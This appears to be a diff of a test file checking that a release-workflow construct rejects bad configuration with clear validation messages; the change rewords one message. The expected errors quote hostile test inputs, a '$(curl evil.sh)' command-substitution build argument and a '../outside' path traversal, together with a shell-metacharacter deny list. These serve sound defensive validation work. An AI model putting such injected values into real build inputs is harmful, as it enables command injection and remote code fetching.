@@ -535,7 +535,7 @@ describe('ReleaseWorkflow: bad input fails before anything is written', () => {
       '[talos-sbc-constructs] ReleaseWorkflow at "Release" is invalid:',
       '  - overlayImage.namespace = "MyUser": a Docker Hub namespace must be 4 to 30 lowercase letters or digits. Fix: use the Docker Hub account or organisation name in lowercase, e.g. "myuser"',
       '  - registryCredentials.tokenSecret = "GITHUB_TOKEN": GitHub reserves secret names starting with "GITHUB_". Fix: choose a name without the GITHUB_ prefix, e.g. "REGISTRY_TOKEN"',
-      '  - registryCredentials.registry = "quay.io": the credentials must be for the registry the overlay is pushed to (docker.io). '
+      '  - registryCredentials.registry = "quay.io": the credentials must be for the registry the images are pushed to (docker.io). '
       + 'Fix: use RegistryCredentials.dockerHub() for docker.io, or RegistryCredentials.usernameAndToken({ registry: ... }) for the overlay\'s registry',
       '  - overlayBuild.file = "../outside/Dockerfile": must be a relative path inside the repository (letters, digits, "._/-", no ".." segments). Fix: use a path such as "Pkgfile" or "docker/Dockerfile"',
       '  - overlayBuild.buildArgs.VERSION = "$(curl evil.sh)": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. '
